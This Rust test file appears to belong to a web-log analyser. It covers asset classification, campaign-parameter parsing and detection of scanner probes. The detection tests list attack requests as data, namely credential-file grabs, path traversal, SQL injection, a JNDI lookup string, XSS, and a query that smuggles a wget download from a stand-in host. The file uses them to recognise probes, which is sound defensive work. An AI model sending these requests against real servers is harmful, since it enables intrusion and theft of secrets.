use super::*;
use crate::referer::Own;
use proptest::prelude::*;

fn class(path: &str) -> &'static str {
    asset_class("GET", path).name()
}

#[test]
fn a_path_is_what_its_ending_says() {
    for (path, is) in [
        ("/", "page"),
        ("/about", "page"),
        ("/about/", "page"),
        ("/index.php", "page"),
        ("/a/b/Index.HTML", "page"),
        ("/img/logo.PNG", "image"),
        ("/film.mp4", "media"),
        ("/app.3f2a9c.js", "script"),
        ("/style.css", "style"),
        ("/fonts/a.woff2", "font"),
        ("/price-list.pdf", "download"),
        ("/release-1.2.tar.gz", "download"),
        ("/stations.csv", "data"),
        ("/user/jane.doe", "other"),
        ("/release/1.2", "page"),
        ("/cart.php;session=1.png", "page"),
    ] {
        assert_eq!(class(path), is, "{path}");
    }
}

#[test]
fn well_known_places_say_more_than_endings() {
    for (path, is) in [
        ("/robots.txt", "wellknown"),
        ("/favicon.ico", "wellknown"),
        ("/sitemap.xml", "wellknown"),
        ("/maps/sitemap_index-2.xml.gz", "wellknown"),
        ("/apple-touch-icon-120x120-precomposed.png", "wellknown"),
        ("/.well-known/acme-challenge/abc", "wellknown"),
        ("/healthz", "health"),
        ("/PING", "health"),
        ("/actuator/health/readiness", "health"),
        ("/api/health", "health"),
        ("/blog/tag/x/feed/", "feed"),
        ("/feed", "feed"),
        ("/atom.xml", "feed"),
        ("/news.rss", "feed"),
        ("/api/users/7", "api"),
        ("/api", "api"),
        ("/apiary", "page"),
        ("/v1/users", "api"),
        ("/v10", "api"),
        ("/vans", "page"),
        ("/graphql", "api"),
        ("/wp-json/wp/v2/posts", "api"),
        ("/shop/api/cart", "api"),
        ("/api/list.json", "api"),
        ("/api/docs/logo.png", "image"),
    ] {
        assert_eq!(class(path), is, "{path}");
    }
}

#[test]
fn a_method_of_programs_asks_an_interface() {
    assert_eq!(asset_class("PUT", "/users/7").name(), "api");
    assert_eq!(asset_class("PROPFIND", "/").name(), "api");
    assert_eq!(asset_class("POST", "/login").name(), "page");
    assert_eq!(asset_class("DELETE", "/a.png").name(), "image");
    assert_eq!(asset_class("CONNECT", "/").name(), "other");
    assert_eq!(class("*"), "other");
    assert_eq!(class(""), "other");
}

#[test]
fn every_key_of_the_table_is_short_and_small_and_tells_its_class() {
    for (key, is) in asset::lines() {
        assert!(key.len() < 32 && key.to_lowercase() == key, "{key}");
        let path =
            if key.starts_with('.') { format!("/a{key}") } else { format!("/{}", key.trim_matches('/')) };
        assert_eq!(asset_class("GET", &path), is, "{key}");
    }
}

#[test]
fn campaign_parameters_are_read_and_decoded_once() {
    let query =
        "id=7&utm_source=news%2Bletter&utm_medium=e+mail&utm_campaign=M%C3%A4rz&utm_term=a&utm_content=%2541";
    let campaign = campaign(query);
    assert_eq!(campaign.source.as_deref(), Some("news+letter"));
    assert_eq!(campaign.medium.as_deref(), Some("e mail"));
    assert_eq!(campaign.name.as_deref(), Some("März"));
    assert_eq!(campaign.term.as_deref(), Some("a"));
    assert_eq!(campaign.content.as_deref(), Some("%41"));
    assert_eq!(campaign.click, None);
}

#[test]
fn matomo_writes_campaigns_in_its_own_way() {
    for family in ["mtm", "pk", "piwik", "matomo"] {
        let query = format!("{family}_campaign=spring&{family}_kwd=shoes");
        let campaign = campaign(&query);
        assert_eq!(campaign.name.as_deref(), Some("spring"));
        assert_eq!(campaign.term.as_deref(), Some("shoes"));
    }
}

#[test]
fn a_click_is_told_by_its_kind_and_never_by_its_number() {
    for kind in [
        "gclid",
        "gbraid",
        "wbraid",
        "fbclid",
        "msclkid",
        "ttclid",
        "twclid",
        "li_fat_id",
        "yclid",
        "dclid",
        "mc_cid",
    ] {
        let query = format!("page=2&{kind}=Secret123");
        let campaign = campaign(&query);
        assert_eq!(campaign.click, Some(kind));
        assert!(!format!("{campaign:?}").contains("Secret"));
    }
}

#[test]
fn the_first_parameter_that_is_not_empty_counts() {
    let campaign = campaign("utm_source=&utm_source=a&utm_source=b&gclid=1&fbclid=2&utm_medium");
    assert_eq!(campaign.source.as_deref(), Some("a"));
    assert_eq!(campaign.click, Some("gclid"));
    assert_eq!(campaign.medium, None);
}

#[test]
fn a_link_escaped_for_html_still_tells_its_campaign() {
    assert_eq!(campaign("a=1&amp;utm_source=mail").source.as_deref(), Some("mail"));
}

#[test]
fn other_parameters_are_no_campaign() {
    for query in
        ["", "&&&", "=", "source=a&campaign=b", "xutm_source=a", "utm_=a", "utmsource=a", "notgclid=1", "UTM"]
    {
        assert_eq!(campaign(query), Campaign::default(), "{query}");
    }
}

#[test]
fn campaign_values_are_cut_at_whole_characters() {
    let query = format!("utm_source={}&utm_medium={}", "a".repeat(10_000), "%C3%A4".repeat(500));
    let source = campaign(&query).source.unwrap();
    assert_eq!(source.len(), 256);
    let query = format!("utm_medium={}", "%C3%A4".repeat(500));
    let medium = campaign(&query).medium.unwrap();
    assert!((200..=256).contains(&medium.len()) && medium.starts_with("ää"), "{medium}");
}

fn probed(target: &str) -> Option<&'static str> {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let mut decoded = Vec::new();
    weblog_parse::text::percent_decode(path.as_bytes(), &mut decoded);
    let path = String::from_utf8_lossy(&decoded);
    probe(Request { method: "GET", target, path: &path, query }, Own::default())
}

#[test]
fn scanners_are_known_by_what_they_ask_for() {
    for (target, after) in [
        ("/.env", "dotfiles"),
        ("/api/.env.bak", "dotfiles"),
        ("/.git/config", "dotfiles"),
        ("/.aws/credentials", "dotfiles"),
        ("/../../etc/passwd", "traversal"),
        ("/..%2F..%2Fetc%2Fpasswd", "traversal"),
        ("/static/%252e%252e/%252e%252e/x", "traversal"),
        ("/view?file=../../../x", "traversal"),
        ("/view?file=..%252f..%252fx", "traversal"),
        ("/cgi-bin/.%2e/.%2e/bin/sh", "rce"),
        ("/item?id=1+UNION+SELECT+1,2", "injection"),
        ("/item?id=1%27%20AND%20SLEEP(5)--", "injection"),
        ("/?x=${jndi:ldap://a.example/x}", "injection"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "injection"),
        ("/index.php?-d+allow_url_include%3don", "rce"),
        ("/x?cmd=a;wget+http://a.example/x.sh", "rce"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "rce"),
        ("/phpMyAdmin/index.php", "admin"),
        ("/manager/html", "admin"),
        ("/actuator/env", "admin"),
        ("/boaform/admin/formLogin", "device"),
        ("/cgi-bin/luci/;stok=/locale", "device"),
        ("/HNAP1/", "device"),
        ("/wp-config.php.bak", "wordpress"),
        ("/wp-admin/setup-config.php", "wordpress"),
        ("/blog/wp-includes/wlwmanifest.xml", "wordpress"),
        ("/?author=1", "wordpress"),
        ("/dump.sql", "backups"),
        ("/backup.zip", "backups"),
        ("/index.php~", "backups"),
        ("/phpinfo.php", "config"),
        ("/config/database.yml", "config"),
    ] {
        assert_eq!(probed(target), Some(after), "{target}");
    }
}

#[test]
fn what_people_and_programs_of_a_real_site_ask_for_is_no_probe() {
    for target in [
        "/",
        "/wp-login.php",
        "/wp-admin/admin-ajax.php?action=heartbeat",
        "/wp-content/themes/own/style.css?ver=6.5",
        "/wp-content/uploads/2024/05/photo.jpg",
        "/wp-json/wp/v2/posts?author=12",
        "/xmlrpc.php",
        "/actuator/health",
        "/actuator/prometheus",
        "/.well-known/acme-challenge/abc",
        "/repo.git/info/refs?service=git-upload-pack",
        "/blog/../images/a.png",
        "/environment",
        "/search?q=how+to+sleep(3)",
        "/search?q=select+a+union",
        "/login?next=https%3A%2F%2Fshop.example%2F",
        "/administration",
        "/backup-plans",
        "/old.html",
        "/help/remote/login",
        "/admin/config.yml",
        "/config.json",
        "/geoserver/wms?service=WMS",
        "/files/data.zip",
        "/downloads/site-1.2.zip",
        "/script.js",
        "/robots.txt",
    ] {
        assert_eq!(probed(target), None, "{target}");
    }
}

#[test]
fn a_request_for_another_server_takes_this_one_for_a_proxy() {
    let ask = |method, target, vhost| {
        let path = "/";
        probe(Request { method, target, path, query: "" }, Own { vhost, sites: &[] })
    };
    assert_eq!(ask("CONNECT", "other.example:443", None), Some("proxy"));
    assert_eq!(ask("GET", "http://other.example/", Some("shop.example")), Some("proxy"));
    assert_eq!(ask("GET", "http://www.shop.example:80/", Some("shop.example")), None);
    // Balancers log every target so, and nothing says whose it is.
    assert_eq!(ask("GET", "http://shop.example/", None), None);
    assert_eq!(ask("GET", "/", Some("shop.example")), None);
}

#[test]
fn every_text_of_the_table_is_found_where_it_says() {
    const LABELS: &[&str] =
        &["rce", "injection", "traversal", "dotfiles", "wordpress", "backups", "config", "admin", "device"];
    for line in probe::lines() {
        assert!(LABELS.contains(&line.label), "{}", line.label);
        assert!(line.text.len() >= 3, "{}", line.text);
        // Encoded twice, as a query is decoded twice.
        let encoded = line.text.replace('%', "%25").replace('+', "%2b").replace('%', "%25");
        let request = match line.place {
            probe::Place::Query => Request { query: &encoded, ..Request::default() },
            _ => Request { path: line.text, ..Request::default() },
        };
        assert!(probe(request, Own::default()).is_some(), "{}", line.text);
    }
}

proptest! {
    #[test]
    fn no_request_panics(method in "\\PC{0,8}", path in "/?\\PC{0,60}", query in "([a-z_%+=&;]|\\PC){0,80}") {
        asset_class(&method, &path);
        campaign(&query);
        probe(Request { method: &method, target: &path, path: &path, query: &query }, Own::default());
    }
}
